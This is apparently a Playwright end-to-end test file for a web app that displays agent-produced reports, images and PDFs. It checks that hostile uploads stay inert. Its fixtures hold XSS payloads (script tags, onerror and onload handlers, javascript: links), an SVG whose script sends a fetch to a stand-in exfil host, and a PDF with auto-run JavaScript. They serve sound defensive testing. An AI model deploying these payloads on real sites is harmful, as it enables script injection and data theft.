"""The MissionOwner reads what agents produced, in Chromium against the live ASGI server (see
tests/e2e/conftest.py): a Markdown report, a JSON result, a CSV, an image and a PDF, then
each hostile artifact (script tags, event handlers, javascript: links, SVG with script,
HTML declared as text/plain), on the artifact page and opened raw from the content
endpoint; and two submissions side by side.

Every test watches the browser: it fails if a dialog opens, if a hostile script set its
global (window.pwned, read in the page and in every frame), or if any request leaves the
page's own origin (browser-internal URLs, chrome:// and the PDF viewer's
chrome-extension://, are not requests to anyone). Screenshots at 1280 and 420 px wide
(MW_SCREENSHOTS), each width checked for horizontal overflow."""

import struct
import zlib
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import at_each_width, follow, g_url, go, sign_in
from tests.integration.artifact_helpers import published
from tests.support import Scenario, evidence

pytestmark = pytest.mark.django_db(transaction=True)

REPORT = b"""# Q3 report

Revenue grew **12 %** over Q2, driven by the *north* region.

## Sources

| source | date |
|---|---|
| Ledger export | 2026-10-01 |
| [Board minutes](https://example.org/minutes) | 2026-10-03 |

- every figure is sourced
- dated within the quarter

```
total = 1_204_000
```
"""
RESULT = b"""{"title": "Q3 summary", "words": 320, "sections": ["revenue", "costs", "outlook"],
 "figures": {"revenue": {"q2": 1075000, "q3": 1204000}, "growth": 0.12, "audited": false},
 "notes": null}"""
TABLE = b"region,q2,q3,growth\n" + b"".join(
    f"region {n},{1000 + n * 7},{1100 + n * 9},{(n % 13) / 100:.2f}\n".encode()
    for n in range(1, 260))
HOSTILE_MARKDOWN = b"""# Looks harmless

<script>window.pwned = "md-script"; alert("md")</script>
<img src="https://tracker.example/x.png" onerror="window.pwned = 'md-onerror'">
<a href="javascript:window.pwned='md-raw-link'">raw link</a>

[click me](javascript:window.pwned='md-link') and ![pixel](https://tracker.example/p.png)
<svg onload="window.pwned='md-svg'"></svg>
"""
HOSTILE_SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80" '
               b'onload="window.pwned=\'svg-onload\'; alert(1)">'
               b'<script>window.pwned = "svg-script"; fetch("https://exfil.example/?c=1")'
               b'</script><image href="https://tracker.example/i.png"/>'
               b'<circle cx="40" cy="40" r="30" fill="red"/></svg>')
HOSTILE_HTML = (b'<!doctype html><html><body onload="window.pwned=\'html-onload\'">'
                b'<script>window.pwned = "html-script"; alert("html")</script>'
                b'<img src="https://tracker.example/h.png">'
                b'<iframe src="javascript:parent.pwned=1"></iframe></body></html>')


def png(width: int = 240, height: int = 120) -> bytes:
    """A gradient PNG (RGB, no filter), made here."""
    rows = b"".join(b"\x00" + b"".join(bytes((x * 255 // width, y * 255 // height, 160))
                                       for x in range(width)) for y in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2,
                                                              0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def pdf(text: str, script: str | None = None) -> bytes:
    """A one-page PDF saying `text`; `script` is run by the viewer when it opens."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R" + (b" /OpenAction 5 0 R" if script else b"")
               + b" >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 200] /Contents 4 0 R "
               b"/Resources << /Font << /F1 6 0 R >> >> >>"]
    stream = f"BT /F1 24 Tf 30 100 Td ({text}) Tj ET".encode()
    objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    objects.append(b"<< /S /JavaScript /JS (" + (script or "").encode() + b") >>")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)


class Watch:
    """What the browser did that it must not: dialogs, requests to another origin."""

    def __init__(self, context, origin: str):
        self.origin, self.dialogs, self.foreign = origin, [], []
        context.on("request", self.request)
        for page in context.pages:
            self.watch(page)
        context.on("page", self.watch)

    def watch(self, page) -> None:
        page.on("dialog", lambda dialog: self.dialogs.append(dialog.message))

    def request(self, request) -> None:
        parts = urlsplit(request.url)
        if parts.scheme in ("chrome", "chrome-extension", "data", "blob", "about"):
            return  # the browser's own pages and the PDF viewer: no request to anyone
        if f"{parts.scheme}://{parts.netloc}" not in (self.origin,
                                                      self.origin.replace("http", "ws", 1)):
            self.foreign.append(request.url)

    def check(self, page) -> None:
        pwned = []
        for frame in page.frames:
            try:
                pwned.append(frame.evaluate("() => window.pwned === undefined ? null : "
                                            "String(window.pwned)"))
            except Exception:  # a frame another process owns (the PDF viewer): not ours
                continue
        assert self.dialogs == [], self.dialogs
        assert self.foreign == [], self.foreign
        assert [p for p in pwned if p is not None] == [], pwned


@pytest.fixture
def owner_reads(asgi_server, page, context, settings):
    """A Scenario whose w1 runs an item, the owner signed in, and the watch: (s, item, watch)."""
    # The bytes this process uploads go where the server reads them.
    settings.MW_BLOB_ROOT = asgi_server.data_dir / "blobs"
    s = Scenario()
    item_id, _ = s.running(s.w1)
    watch = Watch(context, asgi_server.url)
    sign_in(page, asgi_server.url, s.owner.name)
    return s, item_id, watch


def artifact_path(asgi_server, s: Scenario, name: str, rest: str = "") -> str:
    return g_url(asgi_server, s.world.group.id, f"artifacts/{name}/{rest}")


def test_the_owner_reads_a_report_a_result_a_table_an_image_and_a_pdf(asgi_server, owner_reads,
                                                                      page, shot):
    s, item_id, watch = owner_reads
    report = published(s, item_id, REPORT, mediaType="text/markdown")
    result = published(s, item_id, RESULT, mediaType="application/json")
    table = published(s, item_id, TABLE, mediaType="text/csv")
    image = published(s, item_id, png(), mediaType="image/png")
    document = published(s, item_id, pdf("The signed Q3 report"), mediaType="application/pdf")

    # From the WorkItem page to the report.
    go(page, g_url(asgi_server, s.world.group.id, f"work-items/{item_id}/"))
    follow(page, f"#artifacts a.read-artifact[href*='{report}']")
    rendered = page.locator("#reader-rendered")
    expect(rendered.locator("h1")).to_have_text("Q3 report")
    expect(rendered.locator("table td").first).to_have_text("Ledger export")
    expect(rendered.locator("a[href='https://example.org/minutes']")).to_have_attribute(
        "rel", "noopener noreferrer nofollow")
    expect(page.locator("#download")).to_have_attribute("download", f"{item_id}.md")
    at_each_width(page, shot, "markdown")

    # The JSON result, folded and unfolded.
    go(page, artifact_path(asgi_server, s, result))
    tree = page.locator(".json-tree")
    expect(tree).to_contain_text('"sections"')
    expect(tree).to_contain_text("[ 3 items ]")
    nested = tree.locator("details details details").first  # figures.revenue, folded
    expect(nested).not_to_have_attribute("open", "")
    nested.locator("summary").click()
    expect(nested).to_contain_text("1204000")
    at_each_width(page, shot, "json")

    # The CSV: the first rows, the rest counted.
    go(page, artifact_path(asgi_server, s, table))
    expect(page.locator("#reader-csv thead th").first).to_have_text("region")
    expect(page.locator("#reader-csv tbody tr")).to_have_count(200)
    expect(page.locator("#reader-csv-rest")).to_contain_text("59 more rows")
    at_each_width(page, shot, "csv")

    # The image, drawn from the content endpoint.
    go(page, artifact_path(asgi_server, s, image))
    drawn = page.locator("img.reader-image")
    expect(drawn).to_be_visible()
    assert drawn.evaluate("img => img.complete && img.naturalWidth") == 240
    at_each_width(page, shot, "image")
    # Opened on its own: an image document, drawn under the endpoint's CSP sandbox.
    go(page, artifact_path(asgi_server, s, image, "content"))
    assert page.evaluate("document.images[0].complete && document.images[0].naturalWidth") \
        == 240
    shot(page, "image-raw")

    # The PDF: offered, then shown by Chromium's own viewer in a frame of the page.
    go(page, artifact_path(asgi_server, s, document))
    expect(page.locator("#pdf-offer")).to_be_visible()
    viewer_loaded = []
    page.context.on("request", lambda r: viewer_loaded.append(r.url)
                    if r.url.startswith("chrome-extension://") else None)
    follow(page, "#show-pdf")
    frame = page.locator("#reader-pdf")
    expect(frame).to_be_visible()
    page.wait_for_timeout(1500)  # the viewer draws the page
    shot(page, "pdf-1280")
    assert any(f.url.endswith(f"{document}/content") for f in page.frames)
    assert viewer_loaded, "Chromium's PDF viewer never loaded"
    watch.check(page)


HOSTILE = [("text/markdown", HOSTILE_MARKDOWN, "markdown"),
           ("image/svg+xml", HOSTILE_SVG, "svg"),
           ("text/plain", HOSTILE_HTML, "html-as-text"),
           ("text/html", HOSTILE_HTML + b" ", "html")]


@pytest.mark.parametrize("media_type,data,label", HOSTILE, ids=[h[2] for h in HOSTILE])
def test_a_hostile_artifact_runs_nothing_and_calls_no_one(asgi_server, owner_reads, page, shot,
                                                          media_type, data, label):
    s, item_id, watch = owner_reads
    name = published(s, item_id, data, mediaType=media_type)

    # On the artifact page: rendered and sanitized, or shown as source.
    go(page, artifact_path(asgi_server, s, name))
    reader = page.locator("#reader")
    expect(reader).to_be_visible()
    if label == "markdown":
        expect(reader).to_contain_text('<script>window.pwned = "md-script"')  # as text
        link = page.locator("#reader-rendered a", has_text="click me")
        expect(link).to_have_count(0)  # a javascript: link stays text
        page.locator("#reader-rendered").click()  # a click anywhere fires nothing
    else:
        expect(page.locator("#reader-text")).to_contain_text("window.pwned")
        expect(page.locator("#reader svg, #reader iframe, #reader img")).to_have_count(0)
    page.mouse.move(200, 300)
    page.wait_for_timeout(300)
    at_each_width(page, shot, f"hostile-{label}")
    watch.check(page)

    # Opened raw, as a link to the content endpoint would: text, sandboxed, inert.
    go(page, artifact_path(asgi_server, s, name, "content"))
    assert page.evaluate("document.contentType") == "text/plain"
    expect(page.locator("body")).to_contain_text("window.pwned")
    page.wait_for_timeout(300)
    shot(page, f"hostile-{label}-raw")
    watch.check(page)


def test_a_pdf_with_a_script_stays_closed_until_the_owner_asks(asgi_server, owner_reads, page,
                                                              shot):
    """Chromium's PDF viewer runs a PDF's own JavaScript (app.alert opens a dialog, even
    under the CSP sandbox): the reader frames a PDF only when the owner asks."""
    s, item_id, watch = owner_reads
    name = published(s, item_id, pdf("Open me", "app.alert('pwned by a PDF');"),
                     mediaType="application/pdf")

    go(page, artifact_path(asgi_server, s, name))
    page.wait_for_timeout(1000)

    expect(page.locator("#show-pdf")).to_be_visible()
    expect(page.locator("iframe")).to_have_count(0)
    at_each_width(page, shot, "pdf-offer")
    watch.check(page)


def test_the_owner_sees_a_resubmission_beside_the_first(asgi_server, owner_reads, page, shot):
    s, item_id, watch = owner_reads
    first = REPORT + b"\nOutlook: unknown.\n<script>window.pwned='diff'</script>\n"
    second = REPORT.replace(b"12 %", b"12.4 %") + (
        b"\nOutlook: steady growth, with a long line that has to wrap at narrow widths "
        b"rather than push the page sideways: " + b"x" * 120 + b"\n"
        b"<script>window.pwned='diff'</script>\n")

    def submit(data: bytes) -> None:
        name = published(s, item_id, data)
        s.w1.ok("work.submit", {"contractRevision": 1, "artifacts": [name], "evidence": [
            evidence(["ac1", "ac2"], artifacts=[name], result="pass: done")]},
            **s.lease_fields(item_id))

    submit(first)
    s.c.ok("work.fail", {"reason": "no outlook", "evidence": [evidence(
        ["ac1"], method="coordinator-review", result="fail: the outlook is missing")]},
        workItemId=item_id)
    s.offer(item_id, s.w1)
    s.accept(item_id)
    s.start(item_id)
    submit(second)

    go(page, g_url(asgi_server, s.world.group.id, f"work-items/{item_id}/"))
    follow(page, "#submissions-compare a")
    expect(page.locator("h2")).to_contain_text("Submission 1 → submission 2")
    expect(page.locator("table.diff tr.diff-replace").first).to_contain_text("12.4 %")
    expect(page.locator("table.diff")).to_contain_text("<script>window.pwned='diff'</script>")
    at_each_width(page, shot, "submissions")
    watch.check(page)
